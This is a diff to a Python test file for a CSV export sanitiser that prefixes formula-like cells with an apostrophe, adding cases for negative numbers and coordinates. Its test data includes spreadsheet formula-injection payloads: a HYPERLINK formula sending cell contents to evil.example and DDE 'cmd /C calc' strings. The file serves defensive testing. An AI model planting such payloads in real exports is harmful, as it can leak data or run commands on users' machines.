@@ -14,8 +14,12 @@ from coopwork.export.safe import is_formula_like, neutralise, neutralise_frame, 
 DANGEROUS = [
     "=1+1",
     '=HYPERLINK("http://evil.example/?x="&A1,"clic")',
-    "+33 6 12 34 56 78",
+    "-1+1+cmd|' /C calc'!A0",
+    "+1+cmd|' /C calc'!A0",
     "-2+3",
+    "-",
+    "-x",
+    "+33 6 12 34 56 78 (Paul)",
     "@SUM(A1:A2)",
     "\t=1+1",
     "\r=1+1",
@@ -24,6 +28,9 @@ DANGEROUS = [
     "＝1+1",
 ]
 HARMLESS = ["SCOP", "Tiers-lieu (2024)", "1+1", "a=b", "", "'déjà", "café @ midi"]
+# text made only of numbers: a spreadsheet can compute nothing with it, it is written as it is
+NUMBERS = ["-3", "-2.5", "-2,5", "+4", "-1e-3", " -7", "-6.955502 39.12 0 0",
+           "-45.764 4.835 0 0;-45.765 4.836 0 0", "+33 6 12 34 56 78"]
 
 
 @pytest.mark.parametrize("text", DANGEROUS)
@@ -34,6 +41,12 @@ def test_dangerous_texts_get_an_apostrophe(text):
 
 @pytest.mark.parametrize("text", HARMLESS)
 def test_harmless_texts_are_unchanged(text):
+    assert not is_formula_like(text)
+    assert neutralise(text) == text
+
+
+@pytest.mark.parametrize("text", NUMBERS)
+def test_negative_numbers_and_coordinates_written_as_text_keep_no_apostrophe(text):
     assert not is_formula_like(text)
     assert neutralise(text) == text
 
@@ -65,11 +78,11 @@ def test_frame_neutralises_text_cells_and_names_but_keeps_numbers():
 
 
 def test_csv_written_from_a_neutralised_frame_has_no_cell_starting_with_a_trigger():
-    table = pd.DataFrame({"text": DANGEROUS + HARMLESS})
+    table = pd.DataFrame({"text": DANGEROUS + HARMLESS + NUMBERS})
     text = to_csv(table)
     rows = list(csv.reader(io.StringIO(text, newline="")))
     for (cell,) in rows[1:]:
-        assert not cell or cell[0] not in "=+-@\t\r\n＝"
+        assert not cell or cell[0] not in "=+-@\t\r\n＝" or cell in NUMBERS
 
 
 def test_to_csv_quotes_carriage_returns_so_no_row_starts_with_a_formula(tmp_path):
@@ -84,5 +97,5 @@ def test_to_csv_quotes_carriage_returns_so_no_row_starts_with_a_formula(tmp_path
     assert len(rows) == len(table) + 1
     assert [r[0] for r in rows[1:]] == [neutralise(v) for v in table["text"]]
     for row in rows[1:]:
-        assert not row[0] or row[0][0] not in "=+-@\t\r\n＝"
+        assert not row[0] or row[0][0] not in "=+-@\t\r\n＝" or row[0] in NUMBERS
     assert text.count("\r\n") == len(table) + 1
